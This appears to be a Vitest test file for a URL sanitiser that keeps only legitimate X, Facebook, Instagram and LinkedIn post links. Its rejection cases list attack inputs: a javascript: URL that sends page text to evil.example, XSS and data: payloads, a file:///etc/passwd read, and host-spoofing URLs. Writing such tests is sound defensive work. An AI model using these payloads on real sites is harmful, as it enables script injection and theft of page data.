import { describe, expect, it } from 'vitest';
import { platformLink } from './safe-url.js';

describe('platformLink', () => {
  it.each([
    ['https://x.com/someone/status/1', 'x', 'https://x.com/someone/status/1'],
    ['https://twitter.com/i/web/status/1', 'x', 'https://twitter.com/i/web/status/1'],
    ['http://mobile.twitter.com/a/status/2', 'x', 'http://mobile.twitter.com/a/status/2'],
    ['https://www.facebook.com/123/posts/456', 'facebook', 'https://www.facebook.com/123/posts/456'],
    ['https://www.instagram.com/p/abc/', 'instagram', 'https://www.instagram.com/p/abc/'],
    [
      'https://www.linkedin.com/feed/update/urn:li:share:1',
      'linkedin',
      'https://www.linkedin.com/feed/update/urn:li:share:1',
    ],
    ['HTTPS://X.COM/a', 'x', 'https://x.com/a'],
  ] as const)('keeps %s as a link for %s', (url, platform, expected) => {
    expect(platformLink(url, platform)).toBe(expected);
  });

  it.each([
    ['javascript:fetch("https://evil.example/?"+document.body.innerText)', 'x'],
    ['JavaScript:alert(1)', 'linkedin'],
    ['java\tscript:alert(1)', 'x'],
    [' javascript:alert(1)', 'x'],
    ['data:text/html,<script>alert(1)</script>', 'x'],
    ['vbscript:msgbox(1)', 'facebook'],
    ['file:///etc/passwd', 'x'],
    ['https://evil.example/x.com', 'x'],
    ['https://x.com.evil.example/status/1', 'x'],
    ['https://evilx.com/status/1', 'x'],
    ['https://x.com@evil.example/', 'x'],
    ['https://user:pw@x.com/', 'x'],
    ['https://www.linkedin.com/feed/', 'x'],
    ['//x.com/a', 'x'],
    ['/relative/path', 'linkedin'],
    ['not a url', 'instagram'],
    ['', 'x'],
  ] as const)('refuses %s for %s', (url, platform) => {
    expect(platformLink(url, platform)).toBeNull();
  });

  it('refuses a platform it does not know', () => {
    expect(platformLink('https://x.com/a', 'toString')).toBeNull();
  });

  it('refuses missing URLs', () => {
    expect(platformLink(null, 'x')).toBeNull();
    expect(platformLink(undefined, 'x')).toBeNull();
  });
});
